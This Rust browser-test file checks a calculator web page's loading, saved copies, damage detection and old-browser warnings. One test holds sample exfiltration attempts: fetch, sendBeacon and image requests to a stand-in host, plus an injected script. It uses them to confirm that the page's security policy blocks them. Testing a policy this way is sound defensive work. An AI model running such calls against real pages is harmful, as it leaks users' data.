//! Opening the page: what must hold before anybody has typed a figure.

use std::rc::Rc;

use anyhow::{Result, ensure};
use browser_tests::Page;
use serde_json::json;

pub(crate) async fn opens_and_is_ready(page: Rc<Page>) -> Result<()> {
    let face = page
        .js(
            "const face = await corporateParenting.ready;
             return [face === corporateParenting, typeof face.version.version]
               .concat(['indicators', 'areas', 'neighbours', 'published', 'read', 'scorecard']
               .filter((name) => typeof face[name] !== 'function'));",
            &[],
        )
        .await?;
    ensure!(face == json!([true, "string"]), "the JavaScript face is not whole: {face}");

    page.wait_until_gone("#starting").await?;
    page.wait_for("#app h1").await?;
    page.must_be_accessible().await?;
    let errors = page.errors().await?;
    ensure!(errors.is_empty(), "the console shows errors: {}", errors.join("; "));
    page.screenshot("opened").await?;
    Ok(())
}

/// Even a script that runs in the page cannot take anything out of it.
pub(crate) async fn keeps_everything_inside(page: Rc<Page>) -> Result<()> {
    let attempts = [
        ("fetch('http://heard.invalid/fetch').catch(() => {})", "connect-src"),
        ("navigator.sendBeacon('http://heard.invalid/beacon', 'x')", "connect-src"),
        ("new Image().src = 'http://heard.invalid/image'", "img-src"),
        (
            "document.body.append(Object.assign(document.createElement('script'), { text: 'window.ran = 1' }))",
            "script-src",
        ),
    ];
    for (attempt, directive) in attempts {
        page.js(attempt, &[]).await?;
        page.until(&format!("the policy blocks `{attempt}`"), async || {
            Ok(page.take_violations().await?.iter().any(|found| found.starts_with(directive)).then_some(()))
        })
        .await?;
    }
    let ran = page.js("return window.ran ?? null", &[]).await?;
    ensure!(ran.is_null(), "a script that is not part of the page has run");
    Ok(())
}

pub(crate) async fn a_copy_saved_by_the_browser_starts_again(page: Rc<Page>) -> Result<()> {
    let before = page.text("body").await?;
    let copy = page.save_complete().await?;
    page.open_file(&copy).await?;
    page.wait_until_gone("#starting").await?;
    let after = page.text("body").await?;
    ensure!(before == after, "the copy says \"{after}\" where the page says \"{before}\"");
    Ok(())
}

pub(crate) async fn a_damaged_copy_says_so(page: Rc<Page>) -> Result<()> {
    // At its start, in its code, in its data, where it says how far it goes, and in what unpacks it.
    let begin =
        |html: &str, name: &str| html.find(&format!("id=\"{name}\">")).map_or(0, |at| at + name.len() + 6);
    let places =
        [("program", 0), ("program", 800_000), ("program", 1_400_000), ("program", 8), ("unpacker", 2000)];
    for (name, at) in places {
        let copy = page.changed_copy(|html| {
            let at = begin(html, name) + at;
            let other = if html[at..].starts_with('A') { "B" } else { "A" };
            [&html[..at], other, &html[at + 1..]].concat()
        })?;
        page.show_file(&copy).await?;
        page.wait_for_text("The calculator could not start.").await?;
        ensure!(page.ready().await.is_err(), "`ready` must be rejected");
    }
    page.must_be_accessible().await
}

pub(crate) async fn a_browser_that_is_too_old_is_told_so(page: Rc<Page>) -> Result<()> {
    let copy = page.changed_copy(|html| {
        let policy = html.lines().find(|line| line.contains("Content-Security-Policy")).unwrap_or_default();
        html.replace(policy, "<script>delete window.DecompressionStream</script>")
    })?;
    page.show_file(&copy).await?;
    page.wait_for_text("This browser is too old").await?;
    ensure!(page.ready().await.is_err(), "`ready` must be rejected");
    page.must_be_accessible().await
}
